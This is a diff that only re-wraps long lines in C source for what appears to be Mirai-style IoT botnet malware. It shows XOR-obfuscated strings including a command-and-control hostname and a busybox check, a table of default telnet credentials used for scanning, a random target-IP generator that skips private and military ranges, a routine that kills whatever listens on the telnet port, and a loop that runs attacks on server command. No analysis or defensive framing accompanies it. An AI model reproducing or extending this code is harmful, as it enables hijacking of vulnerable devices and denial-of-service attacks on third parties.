@@ -16,18 +16,30 @@ enum { T_CNC, T_PROC_TCP, T_QUERY, T_NCORRECT, T_VSE, T_MAX };
 static char table[T_MAX][64];
 /* Encoded at build time by the macro below: the binary holds only the XORed bytes. */
 #define X(c) ((char)((c) ^ 0x22))
-static const char enc_proc_tcp[] = {X('/'), X('p'), X('r'), X('o'), X('c'), X('/'), X('n'), X('e'), X('t'), X('/'), X('t'), X('c'), X('p'), 0x22};
-static const char enc_query[] = {X('/'), X('b'), X('i'), X('n'), X('/'), X('b'), X('u'), X('s'), X('y'), X('b'), X('o'), X('x'), X(' '), X('M'), X('I'), X('R'), X('A'), X('I'), 0x22};
-static const char enc_ncorrect[] = {X('n'), X('c'), X('o'), X('r'), X('r'), X('e'), X('c'), X('t'), 0x22};
-static const char enc_vse[] = {X('T'), X('S'), X('o'), X('u'), X('r'), X('c'), X('e'), X(' '), X('E'), X('n'), X('g'), X('i'), X('n'), X('e'), X(' '), X('Q'), X('u'), X('e'), X('r'), X('y'), 0x22};
-static const char enc_cnc[] = {X('c'), X('n'), X('c'), X('.'), X('m'), X('i'), X('t'), X('s'), X('u'), X('-'), X('t'), X('e'), X('s'), X('t'), X('.'), X('i'), X('n'), X('v'), X('a'), X('l'), X('i'), X('d'), 0x22};
+static const char enc_proc_tcp[] = {X('/'), X('p'), X('r'), X('o'), X('c'), X('/'), X('n'),
+				    X('e'), X('t'), X('/'), X('t'), X('c'), X('p'), 0x22};
+static const char enc_query[] = {X('/'), X('b'), X('i'), X('n'), X('/'), X('b'), X('u'),
+				 X('s'), X('y'), X('b'), X('o'), X('x'), X(' '), X('M'),
+				 X('I'), X('R'), X('A'), X('I'), 0x22};
+static const char enc_ncorrect[] = {X('n'), X('c'), X('o'), X('r'), X('r'),
+				    X('e'), X('c'), X('t'), 0x22};
+static const char enc_vse[] = {X('T'), X('S'), X('o'), X('u'), X('r'), X('c'), X('e'),
+			       X(' '), X('E'), X('n'), X('g'), X('i'), X('n'), X('e'),
+			       X(' '), X('Q'), X('u'), X('e'), X('r'), X('y'), 0x22};
+static const char enc_cnc[] = {X('c'), X('n'), X('c'), X('.'), X('m'), X('i'), X('t'), X('s'),
+			       X('u'), X('-'), X('t'), X('e'), X('s'), X('t'), X('.'), X('i'),
+			       X('n'), X('v'), X('a'), X('l'), X('i'), X('d'), 0x22};
 /* Scanner credentials (user, password), XORed. */
 static const char enc_creds[][2][16] = {
-	{{X('r'), X('o'), X('o'), X('t'), 0x22}, {X('x'), X('c'), X('3'), X('5'), X('1'), X('1'), 0x22}},
+	{{X('r'), X('o'), X('o'), X('t'), 0x22},
+	 {X('x'), X('c'), X('3'), X('5'), X('1'), X('1'), 0x22}},
 	{{X('r'), X('o'), X('o'), X('t'), 0x22}, {X('v'), X('i'), X('z'), X('x'), X('v'), 0x22}},
-	{{X('r'), X('o'), X('o'), X('t'), 0x22}, {X('x'), X('m'), X('h'), X('d'), X('i'), X('p'), X('c'), 0x22}},
-	{{X('r'), X('o'), X('o'), X('t'), 0x22}, {X('j'), X('u'), X('a'), X('n'), X('t'), X('e'), X('c'), X('h'), 0x22}},
-	{{X('a'), X('d'), X('m'), X('i'), X('n'), 0x22}, {X('s'), X('m'), X('c'), X('a'), X('d'), X('m'), X('i'), X('n'), 0x22}},
+	{{X('r'), X('o'), X('o'), X('t'), 0x22},
+	 {X('x'), X('m'), X('h'), X('d'), X('i'), X('p'), X('c'), 0x22}},
+	{{X('r'), X('o'), X('o'), X('t'), 0x22},
+	 {X('j'), X('u'), X('a'), X('n'), X('t'), X('e'), X('c'), X('h'), 0x22}},
+	{{X('a'), X('d'), X('m'), X('i'), X('n'), 0x22},
+	 {X('s'), X('m'), X('c'), X('a'), X('d'), X('m'), X('i'), X('n'), 0x22}},
 };
 
 static void decode(char *out, const char *in)
@@ -56,10 +68,11 @@ static uint32_t random_ip(void)
 	for (;;) {
 		uint32_t ip = (uint32_t)rand() << 16 ^ (uint32_t)rand();
 		uint8_t a = ip >> 24, b = (ip >> 16) & 0xff;
-		if (a == 127 || a == 0 || a == 3 || a == 15 || a == 16 || a == 56 || a == 10 || a >= 224 ||
-		    (a == 192 && b == 168) || (a == 172 && b >= 16 && b < 32) || (a == 100 && b >= 64 && b < 127) ||
-		    (a == 169 && b == 254) || (a == 198 && b >= 18 && b < 20) || a == 6 || a == 7 || a == 11 ||
-		    a == 21 || a == 22 || a == 26 || a == 28 || a == 29 || a == 30 || a == 33 || a == 55 ||
+		if (a == 127 || a == 0 || a == 3 || a == 15 || a == 16 || a == 56 || a == 10 ||
+		    a >= 224 || (a == 192 && b == 168) || (a == 172 && b >= 16 && b < 32) ||
+		    (a == 100 && b >= 64 && b < 127) || (a == 169 && b == 254) ||
+		    (a == 198 && b >= 18 && b < 20) || a == 6 || a == 7 || a == 11 || a == 21 ||
+		    a == 22 || a == 26 || a == 28 || a == 29 || a == 30 || a == 33 || a == 55 ||
 		    a == 214 || a == 215)
 			continue;
 		return htonl(ip);
@@ -126,7 +139,8 @@ static void killer(void)
 	char line[512], inode[32] = "";
 	while (f && fgets(line, sizeof(line), f)) {
 		char local[64], state[8], ino[32];
-		if (sscanf(line, "%*s %63s %*s %7s %*s %*s %*s %*s %*s %31s", local, state, ino) == 3 &&
+		if (sscanf(line, "%*s %63s %*s %7s %*s %*s %*s %*s %*s %31s", local, state, ino) ==
+			    3 &&
 		    strstr(local, ":0017") && strcmp(state, "0A") == 0)
 			snprintf(inode, sizeof(inode), "socket:[%s]", ino);
 	}
@@ -258,7 +272,8 @@ int main(void)
 				if (total == 0) {
 					continue; /* ping */
 				}
-				if (total < 2 || total - 2 > sizeof(body) || read_full(fd, body, total - 2) < 0)
+				if (total < 2 || total - 2 > sizeof(body) ||
+				    read_full(fd, body, total - 2) < 0)
 					break;
 				attack(body, total - 2);
 #ifndef STAY
